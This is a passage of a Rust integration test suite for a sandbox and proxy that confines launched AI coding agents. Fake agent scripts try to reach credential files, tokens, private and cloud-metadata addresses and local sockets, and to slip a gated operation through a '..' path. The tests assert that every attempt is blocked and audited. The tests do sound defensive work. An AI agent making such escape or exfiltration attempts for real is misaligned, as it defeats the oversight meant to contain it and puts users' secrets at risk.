            .filter(|entry| {
                std::fs::read_link(entry.path()).is_ok_and(|link| link.to_string_lossy().starts_with("socket:"))
            })
            .count()
    };
    let sockets_before = sockets_of_the_daemon();

    agent_script(&rig, "network_attacker.py");
    let report_path = rig.workspace().join("network-attack.json");
    let (tcp_port, udp_port) =
        (tcp_canary.local_addr().unwrap().port().to_string(), udp_canary.local_addr().unwrap().port().to_string());
    let credential_files = Value::Object(credential_files).to_string();
    let allowed = upstream.host_port();
    let planted_variable = format!("token-{PLANTED}");
    let kerberos = format!("FILE:{}", rig.temp.path().join("krb5cc_planted").display());
    let env: [(&str, &std::ffi::OsStr); 16] = [
        ("ATTACK_REPORT", report_path.as_os_str()),
        ("KRB5CCNAME", kerberos.as_ref()),
        ("SPACED_SOCKET", spaced_socket.as_os_str()),
        ("WORKSPACE_SOCKET", workspace_socket.as_os_str()),
        ("DATAGRAM_SOCKET", datagram_socket.as_os_str()),
        ("CREDENTIAL_FILES", credential_files.as_ref()),
        ("GH_TOKEN", planted_variable.as_ref()),
        ("AWS_SECRET_ACCESS_KEY", planted_variable.as_ref()),
        ("NPM_TOKEN", "exposed-on-purpose".as_ref()),
        ("CANARY_PORT", tcp_port.as_ref()),
        ("UDP_CANARY_PORT", udp_port.as_ref()),
        ("ABSTRACT_SOCKET", abstract_name.as_ref()),
        ("PATH_SOCKET", path_socket.as_os_str()),
        ("ALLOWED_UPSTREAM", allowed.as_ref()),
        ("DAEMON_PORT", daemon_port.as_ref()),
        ("SSH_AUTH_SOCK", path_socket.as_os_str()),
    ];
    let output = rig.run_with_path(
        &["launch", "claude", "--allow-private", &allowed, "--expose-env", "NPM_TOKEN"],
        &env,
        Path::new("/usr/bin"),
    );
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report_text = std::fs::read_to_string(&report_path).unwrap_or_else(|e| panic!("{e}: {}", text(&output)));
    let report: Value = serde_json::from_str(&report_text).unwrap();
    let variables = &report["credential_variables"];
    assert_eq!(variables["GH_TOKEN"], Value::Null, "{variables}");
    assert_eq!(variables["AWS_SECRET_ACCESS_KEY"], Value::Null, "{variables}");
    assert_eq!(variables["NPM_TOKEN"], "exposed-on-purpose", "--expose-env passes it on: {variables}");
    let started = rig.run(&["audit", "list", "--json", "--event-type", "session.started"], &[]);
    let started: Value = serde_json::from_slice(&started.stdout).unwrap();
    let payload = &started["items"][0]["payload"];
    assert!(payload["aileron.session.hidden"].as_array().unwrap().contains(&Value::from("$GH_TOKEN")), "{payload}");
    assert_eq!(payload["aileron.session.exposed"], serde_json::json!(["$NPM_TOKEN"]), "{payload}");

    // The credential stores are out of sight: an empty directory or an empty file.
    assert!(!report_text.contains(PLANTED), "a planted credential reached the agent: {report:#}");
    for (name, _) in stores {
        let read = &report[format!("read_{name}")];
        assert!(read["ok"] == false || read["value"] == "", "{name}: {read:#}");
    }
    // Nothing leaves the namespace but through the proxy.
    let refused = |name: &str| assert_eq!(report[name]["ok"], false, "{name} must fail: {:#}", report[name]);
    for name in [
        "tcp_host_loopback",
        "tcp_public",
        "tcp6_loopback",
        "tcp6_public",
        "dns",
        "abstract_unix",
        "path_unix",
        "path_unix_spaced",
        "path_unix_in_workspace",
        "datagram_unix",
    ] {
        refused(name);
    }
    assert_eq!(report["tcp_daemon_port_is_the_sessions_own"]["value"], 200, "the API is served inside: {report:#}");
    let canary_hex = format!(":{:04X}", tcp_canary.local_addr().unwrap().port());
    assert!(!report["proc_net_tcp"]["value"].as_str().unwrap_or_default().contains(&canary_hex), "{report:#}");
    assert!(!report["proc_net_unix"]["value"].as_str().unwrap_or_default().contains("canary"), "{report:#}");
    assert!(tcp_canary.accept().is_err(), "the TCP canary was reached");
    assert!(udp_canary.recv(&mut [0u8; 64]).is_err(), "the UDP canary was reached");
    assert!(abstract_canary.accept().is_err(), "the abstract socket was reached");
    assert!(path_canary.accept().is_err(), "the path socket was reached");
    assert!(spaced_canary.accept().is_err(), "the path socket with spaces was reached");
    assert!(datagram_canary.recv(&mut [0u8; 64]).is_err(), "the datagram socket was reached");
    // The proxy: the allowed destination goes through, everything else is refused.
    let connected = report["connect_allowed_private"]["value"].as_str().unwrap_or_default();
    assert!(connected.starts_with("HTTP/1.1 200") && connected.ends_with("HTTP/1.1 200 OK"), "{report:#}");
    assert_eq!(report["curl_through_proxy"]["stdout"], "200", "{report:#}");
    for name in [
        "connect_private",
        "connect_name_of_loopback",
        "connect_daemon_host_port",
        "connect_metadata",
        "connect_rfc1918",
        "connect_ula",
        "connect_forged_credentials",
    ] {
        let status = report[name]["value"].as_str().unwrap_or_default();
        assert!(status.starts_with("HTTP/1.1 403"), "{name}: {:#}", report[name]);
    }
    assert_eq!(report["plain_http_through_proxy"]["value"], 403, "{report:#}");
    assert_eq!(report["proxy_env"]["NO_PROXY"], "localhost,127.0.0.1,::1", "{report:#}");
    assert_eq!(upstream.recorder.count(), 2, "the script's tunnel and curl's, nothing else");

    // Every request is on record, as the agent's, with no path.
    let audit = |event_type: &str| -> Vec<Value> {
        let listed = rig.run(&["audit", "list", "--json", "--event-type", event_type], &[]);
        let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
        listed["items"].as_array().unwrap().clone()
    };
    let passthrough = audit("sandbox.proxy.passthrough");
    assert_eq!(passthrough.len(), 2, "{passthrough:#?}");
    for record in &passthrough {
        assert_eq!(record["payload"]["aileron.proxy.upstream.host"], allowed.as_str(), "{record}");
        assert_eq!(record["payload"]["aileron.proxy.upstream.scheme"], "http", "{record}");
        assert_eq!(record["payload"]["aileron.proxy.upstream.path"], "/status/200", "{record}");
        assert_eq!(record["payload"]["aileron.proxy.upstream.status"], 200, "{record}");
        assert_eq!(record["actor"]["type"], "agent", "{record}");
    }
    let blocked = audit("sandbox.proxy.blocked");
    let reasons: Vec<(&str, &str)> = blocked
        .iter()
        .map(|r| {
            (
                r["payload"]["aileron.proxy.upstream.host"].as_str().unwrap(),
                r["payload"]["aileron.proxy.reject_reason"].as_str().unwrap(),
            )
        })
        .collect();
    for destination in [
        format!("127.0.0.1:{tcp_port}"),
        format!("localhost:{tcp_port}"),
        format!("127.0.0.1:{daemon_port}"),
        "169.254.169.254:80".to_string(),
        "10.0.0.1:80".to_string(),
        "[fd00::1]:443".to_string(),
    ] {
        assert!(reasons.contains(&(destination.as_str(), "private_destination")), "{destination}: {reasons:?}");
    }
    let rejected = audit("sandbox.proxy.rejected");
    assert!(
        rejected.iter().any(|r| r["payload"]["aileron.proxy.reject_reason"] == "non_connect_proxy_request_unsupported"),
        "{rejected:#?}"
    );
    let all = rig.run(&["audit", "list", "--json", "--limit", "1000"], &[]);
    assert!(!String::from_utf8_lossy(&all.stdout).contains("QUERY-SECRET"), "no query is recorded");
    let sessions = audit("session.started");
    let launched = sessions.iter().find(|r| r["payload"]["aileron.session.agent"] == "claude").unwrap();
    assert_eq!(launched["payload"]["aileron.session.network"], "enforced", "{launched}");
    let hidden = launched["payload"]["aileron.session.hidden"].to_string();
    assert!(hidden.contains(".aws") && hidden.contains(".netrc"), "{launched}");

    // The session's listeners went with it.
    let mut sockets_after = sockets_of_the_daemon();
    for _ in 0..50 {
        if sockets_after <= sockets_before {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
        sockets_after = sockets_of_the_daemon();
    }
    assert!(sockets_after <= sockets_before, "the daemon still holds {sockets_after} sockets (was {sockets_before})");
    drop(runtime);
}

/// `--network=open` keeps the host's network, and says so: on the session and as its own record.
#[test]
fn an_open_network_launch_is_recorded_as_unenforced() {
    let rig = LaunchRig::new();
    rig.fake_agent("claude", "env | grep _PROXY= || echo no-proxy-variables");
    let started = rig.run(&["daemon", "start"], &[]);
    assert!(started.status.success(), "{}", text(&started));
    let output = rig.run(&["launch", "claude", "--network", "open"], &[]);
    assert_eq!(output.status.code(), Some(3), "{}", text(&output));
    let report = std::fs::read_to_string(rig.report()).unwrap();
    assert!(report.contains("no-proxy-variables"), "{report}");
    let listed = rig.run(&["audit", "list", "--json", "--event-type", "sandbox.egress.unenforced"], &[]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let records = listed["items"].as_array().unwrap();
    assert_eq!(records.len(), 1, "{listed:#}");
    assert_eq!(records[0]["payload"]["aileron.sandbox.egress_reason"], "user_opt_out");

    // Its approvals say so, like an unconfined agent's.
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let upstream = runtime.block_on(crate::fake_github::FakeGithub::start()).unwrap();
    install_attack_targets(&rig, &upstream.host_port());
    let gated_url = format!("{}/status/200", upstream.base_url());
    let (output, stdout) = list_while_the_agent_waits(&rig, &gated_url, &["launch", "claude", "--network", "open"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    assert!(stdout.contains("whose network is not confined (--network=open)"), "{stdout}");
    assert!(!stdout.contains("requested by an unconfined agent"), "{stdout}");
    drop(runtime);
}

/// A fake agent that only asks, through its MCP server, for the gated `fetch_gated` call.
fn gated_call_agent(gated_url: &str) -> String {
    format!(
        "#!/usr/bin/env python3\nimport json, subprocess, sys\nconfig = json.load(open(sys.argv[sys.argv.index('--mcp-config') + 1]))\n\
         p = subprocess.Popen([config['mcpServers']['aileron']['command']], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)\n\
         def call(i, method, params):\n    p.stdin.write(json.dumps({{'jsonrpc': '2.0', 'id': i, 'method': method, 'params': params}}) + '\\n'); p.stdin.flush()\n    \
         while True:\n        answer = json.loads(p.stdout.readline())\n        if answer.get('id') == i: return answer\n\
         call(1, 'initialize', {{'protocolVersion': '2025-06-18', 'capabilities': {{}}, 'clientInfo': {{'name': 'x', 'version': '1'}}}})\n\
         call(2, 'tools/call', {{'name': 'fetch_gated', 'arguments': {{'url': '{gated_url}'}}}})\np.stdin.close(); p.wait()\n"
    )
}

/// SPEC §15's TLS: inside the tunnel the proxy terminates TLS with the session's CA and
/// re-originates it verified. Real clients with their default checks — curl (its bundle
/// variable, and the system bundle path itself), Python's urllib and `requests`, Node's tls and
/// fetch, the AWS CLI, `git clone` — reach an HTTPS upstream the daemon trusts; an upstream whose certificate nothing vouches for gets a 502 and
/// never sees a request. Each request is one `sandbox.proxy.passthrough` record with method,
/// path and status, and never its query.
#[test]
fn a_launched_agents_tls_is_terminated_verified_and_each_request_recorded() {
    let rig = LaunchRig::new();
    let (trusted, seen) = crate::gateway::tls_upstream();
    let untrusted_cert = rcgen::generate_simple_self_signed(vec!["localhost".to_string()]).unwrap();
    let (untrusted, untrusted_seen) =
        crate::gateway::tls_upstream_serving(&untrusted_cert.cert.pem(), &untrusted_cert.signing_key.serialize_pem());
    let roots = rig.temp.path().join("daemon-roots.pem");
    std::fs::write(&roots, crate::gateway::TEST_UPSTREAM_CERT).unwrap();
    let git = GitServer::start(rig.temp.path());
    let h2_runtime = tokio::runtime::Runtime::new().unwrap();
    let h2_accepted = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h2_upstream = format!("localhost:{}", h2_runtime.block_on(h2_tls_upstream(h2_accepted.clone())).port());
    // The daemon trusts the test upstream's certificate (and nothing else).
    let started = rig.run(&["daemon", "start"], &[("SSL_CERT_FILE", &roots)]);
    assert!(started.status.success(), "{}", text(&started));

    agent_script(&rig, "tls_clients.py");
    let report_path = rig.workspace().join("tls-report.json");
    let (trusted, untrusted) = (format!("localhost:{}", trusted.port()), format!("localhost:{}", untrusted.port()));
    let git_upstream = format!("localhost:{}", git.port);
    let venv_python = crate::gateway_clients::venv_python();
    let node22 = crate::mcp::node_bin();
    let env: [(&str, &std::ffi::OsStr); 7] = [
        ("ATTACK_REPORT", report_path.as_os_str()),
        ("NODE22_BIN", node22.as_os_str()),
        ("H2_UPSTREAM", h2_upstream.as_ref()),
        ("TRUSTED_UPSTREAM", trusted.as_ref()),
        ("UNTRUSTED_UPSTREAM", untrusted.as_ref()),
        ("GIT_UPSTREAM", git_upstream.as_ref()),
        ("VENV_PYTHON", venv_python.as_os_str()),
    ];
    let tools = exposing_the_checkouts_tools();
    let mut args = vec!["launch"];
    args.extend(tools.iter().map(String::as_str));
    args.extend([
        "claude",
        "--allow-private",
        &trusted,
        "--allow-private",
        &untrusted,
        "--allow-private",
        &git_upstream,
        "--allow-private",
        &h2_upstream,
    ]);
    let output = rig.run_with_path(&args, &env, Path::new("/usr/bin"));
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();

    assert_eq!(report["curl"]["stdout"], r#"{"via":"tls"}"#, "{report:#}");
    assert_eq!(report["curl_with_only_its_default_bundle"]["stdout"], r#"{"via":"tls"}"#, "{report:#}");
    assert_eq!(report["python"]["body"], r#"{"via":"tls"}"#, "{report:#}");
    assert_eq!(report["node"]["stdout"].as_str().unwrap_or_default().trim(), "HTTP/1.1 200 OK", "{report:#}");
    assert_eq!(report["curl_untrusted_upstream"]["stdout"], "502", "{report:#}");
    assert_eq!(report["curl_h2"]["stdout"], "2", "h2 by ALPN with the proxy: {report:#}");
    assert_eq!(report["curl_h2_upstream"]["stdout"], "HTTP/2.0 /h2-upstream", "h2 on both sides: {report:#}");
    assert_eq!(report["curl_h2_upstream_again"]["stdout"], "HTTP/2.0 /h2-again", "{report:#}");
    let h2_connections = h2_accepted.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(h2_connections, 1, "two curl processes, one upstream connection kept by the session");
    assert_eq!(
        report["python_requests"]["stdout"].as_str().unwrap_or_default().trim(),
        r#"200 {"via":"tls"}"#,
        "{report:#}"
    );
    assert_eq!(
        report["node_fetch"]["stdout"].as_str().unwrap_or_default().trim(),
        r#"200 {"via":"tls"}"#,
        "{report:#}"
    );
    let aws_stderr = report["aws"]["stderr"].as_str().unwrap_or_default();
    assert!(!aws_stderr.contains("SSL") && !aws_stderr.contains("Could not connect"), "{report:#}");
    assert_eq!(report["git_clone"]["code"], 0, "{report:#}");
    assert_eq!(report["git_clone"]["readme"], "hello from a real git server", "{report:#}");
    assert!(untrusted_seen.lock().unwrap().is_empty(), "an unverified upstream got a request");
    let requests = seen.lock().unwrap().clone();
    let signed_list_buckets = requests.iter().filter(|line| *line == "GET / HTTP/1.1").count();
    assert!(signed_list_buckets >= 1, "the AWS CLI's request never arrived: {requests:?}");
    assert_eq!(requests.len() - signed_list_buckets, 7, "{requests:?}");

    let audit = |event_type: &str| -> Vec<Value> {
        let listed = rig.run(&["audit", "list", "--json", "--event-type", event_type], &[]);
        let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
        listed["items"].as_array().unwrap().clone()
    };
    let passthrough = audit("sandbox.proxy.passthrough");
    let (to_h2, passthrough): (Vec<Value>, Vec<Value>) =
        passthrough.into_iter().partition(|r| r["payload"]["aileron.proxy.upstream.host"] == h2_upstream.as_str());
    let mut h2_paths: Vec<&str> =
        to_h2.iter().map(|r| r["payload"]["aileron.proxy.upstream.path"].as_str().unwrap()).collect();
    h2_paths.sort();
    assert_eq!(h2_paths, ["/h2-again", "/h2-upstream"], "{to_h2:#?}");
    assert!(to_h2.iter().all(|r| r["payload"]["aileron.proxy.upstream.status"] == 200), "{to_h2:#?}");
    let (to_git, passthrough): (Vec<Value>, Vec<Value>) =
        passthrough.into_iter().partition(|r| r["payload"]["aileron.proxy.upstream.host"] == git_upstream.as_str());
    let (from_aws, passthrough): (Vec<Value>, Vec<Value>) =
        passthrough.into_iter().partition(|r| r["payload"]["aileron.proxy.upstream.path"] == "/");
    assert_eq!(from_aws.len(), signed_list_buckets, "{from_aws:#?}");
    let mut paths: Vec<&str> =
        passthrough.iter().map(|r| r["payload"]["aileron.proxy.upstream.path"].as_str().unwrap()).collect();
    paths.sort();
    assert_eq!(paths, ["/bundle", "/curl", "/fetch", "/h2", "/node", "/python", "/requests"], "{passthrough:#?}");
    let git_requests: Vec<(&str, &str)> = to_git
        .iter()
        .map(|r| {
            (
                r["payload"]["aileron.proxy.method"].as_str().unwrap(),
                r["payload"]["aileron.proxy.upstream.path"].as_str().unwrap(),
            )
        })
        .collect();
    assert!(git_requests.contains(&("GET", "/repo.git/info/refs")), "{git_requests:?}");
    assert!(git_requests.contains(&("POST", "/repo.git/git-upload-pack")), "{git_requests:?}");
    for record in &passthrough {
        let payload = &record["payload"];
        assert_eq!(payload["aileron.proxy.source"], "transparent_connect_tls", "{record}");
        assert_eq!(payload["aileron.proxy.upstream.scheme"], "https", "{record}");
        assert_eq!(payload["aileron.proxy.method"], "GET", "{record}");
        assert_eq!(payload["aileron.proxy.upstream.status"], 200, "{record}");
        assert_eq!(payload["aileron.proxy.upstream.host"], trusted.as_str(), "{record}");
    }
    let rejected = audit("sandbox.proxy.rejected");
    assert!(
        rejected.iter().any(|r| r["payload"]["aileron.proxy.reject_reason"] == "upstream_tls_failed"
            && r["payload"]["aileron.proxy.upstream.host"] == untrusted.as_str()),
        "{rejected:#?}"
    );
    let all = rig.run(&["audit", "list", "--json", "--limit", "1000"], &[]);
    assert!(!String::from_utf8_lossy(&all.stdout).contains("QUERY-SECRET"), "a query string was recorded");
}

/// SPEC §15's sealed credentials, api_key: a spec-only connector (a manifest and no module, packed
/// and installed like any other) whose `[[proxy.operations]]` put the bound key on
/// a launched agent's own requests (its curl sends what `gh` sends: `token $GH_TOKEN`), the agent
/// holding only the placeholder. The upstream sees the real key; an echo of it comes back
/// redacted; a gated operation nobody approves is answered `approval_pending` and never goes out;
/// a `..` path that a server would read as the gated operation is refused
/// before anything is sent; an unmatched request keeps the placeholder. Each is recorded with the
/// connector, the operation and the binding, never the key.
#[test]
fn a_launched_agents_own_tool_gets_the_bound_key_it_never_sees() {
    const KEY: &str = "ghp_sealedKeyTheAgentNeverSees0000000001";
    let rig = LaunchRig::new();
    let saw: Arc<std::sync::Mutex<Vec<(String, String)>>> = Arc::default();
    let recorded = saw.clone();
    let answer: crate::gateway::Answer = Arc::new(move |line: &str, headers: &[String]| {
        let authorization = header_value(headers, "authorization");
        // A tunnel whose request the proxy refused still opened a connection here, and closes it
        // without a request.
        if !line.is_empty() {
            recorded.lock().unwrap().push((line.to_string(), authorization.clone()));
        }
        (format!("x-echo: {authorization}\r\n"), json!({ "saw": authorization }).to_string())
    });
    let upstream = answering(answer);
    start_with_a_vault(&rig);
    let extra = format!(
        "[capabilities.credential]\nkind = \"api_key\"\nformat = \"token {{key}}\"\n\n[proxy]\n\
         placeholder_env = [\"GH_TOKEN\"]\n\n\
         [[proxy.operations]]\nname = \"rest\"\nmethod = \"GET\"\nhost = \"{upstream}\"\npath = \"/**\"\n\n\
         [[proxy.operations]]\nname = \"merge_pull_request\"\nmethod = \"PUT\"\nhost = \"{upstream}\"\n\
         path = \"/repos/{{owner}}/{{repo}}/pulls/{{number}}/merge\"\napproval = true\n\n\
         [[proxy.operations]]\nname = \"contents\"\nmethod = \"PUT\"\nhost = \"{upstream}\"\n\
         path = \"/repos/{{owner}}/{{repo}}/contents/**\"\n"
    );
    install_spec_only(&rig, &upstream, &extra);
    let shown = rig.run(&["connector", "show", "github://aileron-tests/http_get"], &[]);
    assert!(
        text(&shown)
            .contains("send a launched agent's PUT /repos/{owner}/{repo}/pulls/{number}/merge requests to localhost"),
        "the consent names each operation: {}",
        text(&shown)
    );
    bind_key(&rig, KEY);

    agent_script(&rig, "sealed_clients.py");
    let report_path = rig.workspace().join("sealed-report.json");
    let env: [(&str, &std::ffi::OsStr); 3] = [
        ("ATTACK_REPORT", report_path.as_os_str()),
        ("UPSTREAM", upstream.as_ref()),
        // The user's own token in the environment the launch starts from: the agent gets the
        // placeholder instead.
        ("GH_TOKEN", "ghp_theUsersOwnTokenFromTheShell".as_ref()),
    ];
    let output = rig.run_with_path(&["launch", "claude", "--approval-hold", "1"], &env, Path::new("/usr/bin"));
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report_text = std::fs::read_to_string(&report_path).unwrap();
    let report: Value = serde_json::from_str(&report_text).unwrap();

    assert_eq!(report["GH_TOKEN"], "aileron-sealed", "{report:#}");
    assert_eq!(report["rest"]["status"], "200", "{report:#}");
    // The whole header value is redacted, not only the key inside it.
    assert_eq!(report["rest"]["body"], json!({ "saw": "[REDACTED]" }).to_string(), "an echo comes back redacted");
    assert!(report["rest"]["head"].as_str().unwrap().contains("x-echo: [REDACTED]"), "{report:#}");
    assert_eq!(report["contents"]["status"], "200", "{report:#}");
    assert_eq!(report["gated"]["status"], "403", "{report:#}");
    assert!(report["gated"]["body"].as_str().unwrap().contains("approval_pending"), "{report:#}");
    assert_eq!(report["dot_dot"]["status"], "400", "{report:#}");
    assert!(report["dot_dot"]["body"].as_str().unwrap().contains("path_not_canonical"), "{report:#}");
    assert_eq!(report["unmatched"]["status"], "200", "{report:#}");
    assert!(!report_text.contains(KEY), "the agent saw the key: {report_text}");
    assert!(!report_text.contains("ghp_theUsersOwnToken"), "the agent saw the user's own token");

    let saw = saw.lock().unwrap().clone();
    let expected = [
        ("GET /user HTTP/1.1", format!("token {KEY}")),
        ("PUT /repos/acme/app/contents/README.md HTTP/1.1", format!("token {KEY}")),
        ("DELETE /user HTTP/1.1", "token aileron-sealed".to_string()),
    ];
    assert_eq!(saw, expected.map(|(line, auth)| (line.to_string(), auth)), "what the upstream saw");

    let listed = rig.run(&["audit", "list", "--json", "--limit", "1000"], &[]);
    let all = String::from_utf8_lossy(&listed.stdout).to_string();
    assert!(!all.contains(KEY), "the key reached the audit log");
    let listed: Value = serde_json::from_str(&all).unwrap();
    let records: Vec<&Value> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["payload"]["aileron.proxy.source"] == "transparent_connect_tls")
        .collect();
    let summary: Vec<(String, String, String, String)> = records
        .iter()
        .map(|r| {
            let payload = &r["payload"];
            let field = |key: &str| payload[key].as_str().unwrap_or_default().to_string();
            (
                r["event_type"].as_str().unwrap().to_string(),
                field("aileron.proxy.upstream.path"),
                field("aileron.connector.operation"),
                field("aileron.connector.reject_reason"),
            )
        })
        .collect();
    let row = |event: &str, path: &str, operation: &str, reason: &str| {
        (event.to_string(), path.to_string(), operation.to_string(), reason.to_string())
    };
    for expected in [
        row("connector.proxy.proxied", "/user", "rest", ""),
        row("connector.proxy.rejected", "/repos/acme/app/pulls/7/merge", "merge_pull_request", "approval_pending"),
        row("connector.proxy.rejected", "/repos/acme/app/contents/%2e%2e/pulls/7/merge", "", "path_not_canonical"),
        row("connector.proxy.proxied", "/repos/acme/app/contents/README.md", "contents", ""),
        row("sandbox.proxy.passthrough", "/user", "", ""),
    ] {
        assert!(summary.contains(&expected), "{expected:?} not in {summary:#?}");
    }
    let proxied = records
        .iter()
        .find(|r| {
            r["event_type"] == "connector.proxy.proxied" && r["payload"]["aileron.proxy.upstream.path"] == "/user"
        })
        .unwrap();
    assert_eq!(proxied["payload"]["aileron.connector.fqn"], "github://aileron-tests/http_get", "{proxied:#}");
    assert_eq!(
        proxied["payload"]["aileron.binding.name"], "api_key/github:aileron-tests:http_get/default",
        "{proxied:#}"
    );
    assert_eq!(proxied["payload"]["aileron.connector.credential"], "api_key", "{proxied:#}");
}

/// Starts the rig's daemon trusting the test upstreams' certificate, with a vault.
pub(crate) fn start_with_a_vault(rig: &LaunchRig) {
    start_with_a_vault_trusting(rig, crate::gateway::TEST_UPSTREAM_CERT, &[]);
}

/// Starts the rig's daemon trusting `roots` (PEM) alone, with `env`, and a vault.
pub(crate) fn start_with_a_vault_trusting(rig: &LaunchRig, roots: &str, env: &[(&str, &std::ffi::OsStr)]) {
    let roots_file = rig.temp.path().join("daemon-roots.pem");
    std::fs::write(&roots_file, roots).unwrap();
    let passphrase = rig.temp.path().join("passphrase");
    std::fs::write(&passphrase, "correct horse battery staple\n").unwrap();
    let mut env = env.to_vec();
    env.push(("SSL_CERT_FILE", roots_file.as_os_str()));
    let started = rig.run_in(&rig.workspace(), &["daemon", "start"], &env);
    assert!(started.status.success(), "{}", text(&started));
    let init = rig.run(&["vault", "init", "--passphrase-file", passphrase.to_str().unwrap()], &[]);
    assert!(init.status.success(), "{}", text(&init));
}

/// Packs and installs `github://aileron-tests/http_get@1.0.0` as a spec-only connector (a
/// manifest and no module) reaching `upstream`, with `extra` (its credential and `[proxy]`).
pub(crate) fn install_spec_only(rig: &LaunchRig, upstream: &str, extra: &str) {
    let package = rig.temp.path().join("pkg-spec");
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(package.join("manifest.toml"), crate::support::manifest("http_get", &[upstream.to_string()], extra))
        .unwrap();
    let tarball = rig.temp.path().join("spec.tar.gz");
    let packed = rig.run(&["connector", "pack", package.to_str().unwrap(), "--out", tarball.to_str().unwrap()], &[]);
    assert!(packed.status.success(), "{}", text(&packed));
    let reference = "github://aileron-tests/http_get@1.0.0";
    let installed = rig.run(
        &["connector", "install", "--from", tarball.to_str().unwrap(), reference, "--yes", "--allow-unsigned"],
        &[],
    );
    assert!(installed.status.success(), "{}", text(&installed));
}

/// A TLS test upstream (the gateway tests' certificate) answering with `answer`: `localhost:PORT`.
pub(crate) fn answering(answer: crate::gateway::Answer) -> String {
    let (address, _) = crate::gateway::tls_upstream_answering(
        crate::gateway::TEST_UPSTREAM_CERT,
        crate::gateway::TEST_UPSTREAM_KEY,
        answer,
    );
    format!("localhost:{}", address.port())
}

/// A TLS test upstream answering every request with `body` (see [`answering`]), and the request
/// lines it received, in order.
pub(crate) fn recording_upstream(body: &'static str) -> (String, Arc<std::sync::Mutex<Vec<String>>>) {
    let saw: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
    let recorded = saw.clone();
    let answer: crate::gateway::Answer = Arc::new(move |line: &str, _headers: &[String]| {
        if !line.is_empty() {
            recorded.lock().unwrap().push(line.to_string());
        }
        (String::new(), body.to_string())
    });
    (answering(answer), saw)
}

/// The value of header `name` among the header lines a test upstream received (empty if none).
pub(crate) fn header_value(headers: &[String], name: &str) -> String {
    headers
        .iter()
        .find_map(|header| header.split_once(':').filter(|(found, _)| found.eq_ignore_ascii_case(name)))
        .map(|(_, value)| value.trim().to_string())
        .unwrap_or_default()
}

/// Binds `key` to the spec-only test connector (from the environment, never the command line).
pub(crate) fn bind_key(rig: &LaunchRig, key: &str) {
    let bound = rig.command_in(
        &rig.workspace(),
        &["binding", "setup", "github://aileron-tests/http_get", "--from-env", "GH_KEY"],
        None,
        &[("GH_KEY", key.as_ref())],
    );
    assert!(bound.status.success(), "{}", text(&bound));
}

/// A test server `tests/launch/<script>` run by `python` with `args`, killed when the guard drops,
/// and the port it printed first.
fn python_fake(python: &Path, script: &str, args: &[&std::ffi::OsStr]) -> (KillOnDrop, u16) {
    let mut fake = Command::new(python)
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/launch").join(script))
        .args(args)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("starting {script} with {}: {e}", python.display()));
    let mut port = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(fake.stdout.take().unwrap()), &mut port).unwrap();
    let port = port.trim().parse().unwrap_or_else(|_| panic!("{script} printed no port: `{port}`"));
    (KillOnDrop(fake), port)
}

/// Serves the fake `script` (run by `python` with the public-names test certificate and key, then
/// `args`) for `hosts` (each `HOST:443`), and starts the rig's daemon with a vault, trusting that
/// certificate and dialling those names at the fake (`AILERON_CONNECT_TO`).
fn serve_public_names(
    rig: &LaunchRig,
    python: &Path,
    script: &str,
    args: &[&std::ffi::OsStr],
    hosts: &[&str],
) -> KillOnDrop {
    let launch_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/launch");
    let (cert, key) = (launch_dir.join("public-names.crt"), launch_dir.join("public-names.key"));
    let mut all = vec![cert.as_os_str(), key.as_os_str()];
    all.extend_from_slice(args);
    let (fake, port) = python_fake(python, script, &all);
    let connect_to: Vec<String> = hosts.iter().map(|host| format!("{host}:443=127.0.0.1:{port}")).collect();
    let roots = std::fs::read_to_string(&cert).unwrap();
    start_with_a_vault_trusting(rig, &roots, &[("AILERON_CONNECT_TO", connect_to.join(",").as_ref())]);
    fake
}

/// `tests/launch/<script>` as the rig's `claude`: the agent a launch starts.
/// `--expose` for what of this checkout a test's agent runs (the test scripts, the Python venv and
/// the Node that `cargo xtask setup` installs): a checkout inside the account's own home is
/// covered with it, as any project's tools are.
pub(crate) fn exposing_the_checkouts_tools() -> Vec<String> {
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let tools = [manifest.join("tests/launch"), manifest.join("../../target/py"), crate::mcp::node_bin().join("..")];
    let existing = tools.into_iter().filter_map(|path| std::fs::canonicalize(path).ok());
    existing.flat_map(|path| ["--expose".to_string(), path.display().to_string()]).collect()
}

/// `script`'s text as the `claude` the launch finds, executable.
fn claude_runs(rig: &LaunchRig, script: impl AsRef<[u8]>) {
    std::fs::write(rig.bin().join("claude"), script).unwrap();
    std::fs::set_permissions(rig.bin().join("claude"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

pub(crate) fn agent_script(rig: &LaunchRig, script: &str) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/launch").join(script);
    std::fs::copy(&script, rig.bin().join("claude")).unwrap();
    std::fs::set_permissions(rig.bin().join("claude"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// The fourteenth re-attack: an h2 client with a receive window of 0 left thousands of small
/// credentialed answers unread, each read whole by the proxy to be redacted and held, and grew the
/// daemon by 1.1 GB. A session holds at most 32 such answers whole; the rest stream (the
/// upstream waits on the agent, whose window holds what is in flight).
#[test]
fn a_session_holds_a_bounded_number_of_unread_answers_whole() {
    let rig = LaunchRig::new();
    let answer: crate::gateway::Answer =
        Arc::new(move |_line: &str, _headers: &[String]| (String::new(), "x".repeat(16 * 1024)));
    let upstream = answering(answer);
    start_with_a_vault(&rig);
    let extra = format!(
